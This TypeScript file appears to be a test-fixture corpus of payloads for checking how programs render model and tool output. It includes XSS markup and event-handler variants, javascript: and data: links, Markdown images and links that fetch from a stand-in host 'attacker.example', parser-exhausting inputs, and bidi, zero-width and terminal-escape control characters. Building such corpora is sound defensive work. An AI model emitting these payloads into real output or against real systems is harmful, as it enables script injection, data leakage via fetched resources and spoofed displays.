/**
 * Payloads that have run scripts, fetched addresses, hidden text or blocked pages in programs that display output of
 * models and tools.
 */
const HOST = 'attacker.example';
const RUN = 'globalThis.attacked=1';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src="https://${HOST}/pixel.png">`,
  `<svg onload="${RUN}"><use href="https://${HOST}/a.svg#x"/></svg>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<iframe src="https://${HOST}/"></iframe>`,
  `<link rel=stylesheet href="https://${HOST}/a.css">`,
  `<style>@import url(https://${HOST}/b.css); * { display: none }</style>`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<base href="https://${HOST}/">`,
  `<form action="https://${HOST}/"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<object data="https://${HOST}/a.swf"></object>`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><foreignObject><iframe src="https://${HOST}/"></iframe></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<a href="https://${HOST}/" ping="https://${HOST}/ping">x</a>`,
  `<image href="https://${HOST}/i.png">`,
  `<table background="https://${HOST}/t.png"><tr><td>x</table>`,
];
const HANDLERS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onerror',
  'a href=# onclick',
  'div onpointerenter',
  'style onload',
  'script src=x onerror',
  'x tabindex=1 autofocus onfocus',
];
/** The same handler as markup, in capitals, after a broken attribute, in a title of Markdown and in a code block. */
const WRAPPERS = [
  (text: string) => `<${text}="${RUN}">`,
  (text: string) => `<${text.toUpperCase()}="${RUN}">`,
  (text: string) => `"'><${text}="${RUN}" x="`,
  (text: string) => `[x](https://example.com "<${text}=${RUN}>")`,
  (text: string) => `\`\`\`html <${text}=${RUN}>\n<${text}="${RUN}">\n\`\`\``,
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'data:text/html,',
  'vbscript:',
  'blob:',
  'file:///',
];
const LINKS = [
  (scheme: string) => `[x](${scheme}${RUN})`,
  (scheme: string) => `![x](${scheme}${RUN})`,
  (scheme: string) => `<${scheme}${RUN}>`,
  (scheme: string) => `[x]: ${scheme}${RUN}\n\n[x]`,
  (scheme: string) => `<a href="${scheme}${RUN}">x</a>`,
];
const MARKDOWN = [
  `![x](https://${HOST}/pixel.png)`,
  `[![x](https://${HOST}/a.png)](javascript:${RUN})`,
  `| a | b |\n|---|---|\n| <script>${RUN}</script> | ![x](https://${HOST}/c.png) |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `# <script>${RUN}</script>`,
  `[https://example.com](https://${HOST}/)`,
  `![x](//${HOST}/d.png)`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;${RUN}`,
];
const HEAVY = [
  '['.repeat(3000),
  '> '.repeat(1500) + 'deep',
  `${'*'.repeat(2000)}a${'*'.repeat(2000)}`,
  `${'['.repeat(500)}x${'](y)'.repeat(500)}`,
  '| '.repeat(1500),
  `|a${'|a'.repeat(500)}\n|-${'|-'.repeat(500)}\n${'|b'.repeat(501)}`,
  `${'- '.repeat(500)}x`,
  '1. '.repeat(1000),
  'a'.repeat(9000),
  '<'.repeat(3000),
  '`'.repeat(2999),
  '_a'.repeat(2000),
  '*.'.repeat(2000),
  'a**b_c'.repeat(800),
  '**a*b '.repeat(800),
  '#\n'.repeat(1500),
  '~~a'.repeat(1000),
  '<a '.repeat(1000),
  '<!--'.repeat(800),
  'www.'.repeat(800),
  'a@a.'.repeat(800),
  '&#'.repeat(1500),
  `${'{"a":'.repeat(800)}1${'}'.repeat(800)}`,
  '[1,'.repeat(1500),
  `e${'\u0301'.repeat(3000)}`,
  'z\u0335\u0322\u034A'.repeat(800),
  '\uFDFD'.repeat(1000),
  '👨‍👩‍👧‍👦'.repeat(300),
];
const CONTROL = [
  '\u202Egnp.exe',
  '\u2066x\u2069\u2067y\u2069',
  '\u200B\u200C\u200D\u2060\uFEFF',
  '\u200Bx'.repeat(1000),
  '\u200B'.repeat(3000),
  '\u{E0041}\u{E0042}',
  '\u061Cx\u180E',
  '\u001B]8;;https://attacker.example\u0007x\u001B]8;;\u0007',
  '\u001B[2J\u001B[1;1H',
  '\u001B]0;title\u0007',
  '\u001B[31mx'.repeat(500),
  '\u001B[38;2;1;2;3mx\u001B[48;5;1my',
  '\u001BPq#0;2;0;0;0\u001B\\',
  `${'\u001B['.repeat(500)}m`,
  '10 %\r20 %\r100 %',
  '\b\b\bx\u007F',
];

export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...HANDLERS.flatMap((handler) => WRAPPERS.map((wrap) => wrap(handler))),
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
  ...MARKDOWN,
  ...HEAVY,
  ...CONTROL,
];

/** The payloads in groups of at most `maxLength` characters; no payload is split. */
export function groupPayloads(maxLength: number): string[] {
  const groups: string[] = [];
  for (const payload of PAYLOADS) {
    const last = groups.at(-1);
    if (last !== undefined && last.length + payload.length + 2 <= maxLength)
      groups[groups.length - 1] = `${last}\n\n${payload}`;
    else groups.push(payload);
  }
  return groups;
}
